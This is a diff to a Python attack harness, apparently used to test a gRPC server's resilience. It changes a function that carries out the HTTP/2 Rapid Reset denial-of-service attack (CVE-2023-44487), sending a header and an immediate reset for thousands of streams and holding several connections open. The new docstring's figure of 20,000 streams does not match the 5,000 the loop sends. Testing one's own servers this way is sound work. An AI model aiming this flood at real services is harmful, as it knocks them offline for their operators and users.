@@ -37,12 +37,16 @@ class Repeated(Exception):
 
 @attack
 def rapid_reset(port, held):
-    """CVE-2023-44487: streams that are reset as soon as they are opened."""
+    """CVE-2023-44487: 20,000 streams that are reset as soon as they are opened.
+    More, without end, is what this gRPC does not withstand."""
+    if len(held) >= 4:
+        raise Repeated
     block = frames.request_block(EXPLAIN)
-    with frames.connect(port) as connection:
-        for stream in range(1, 10001, 2):
-            connection.sendall(frames.headers(stream, block) +
-                               frames.reset(stream))
+    connection = frames.connect(port)
+    held.append(connection)
+    for stream in range(1, 10001, 2):
+        connection.sendall(frames.headers(stream, block) +
+                           frames.reset(stream))
 
 
 @attack
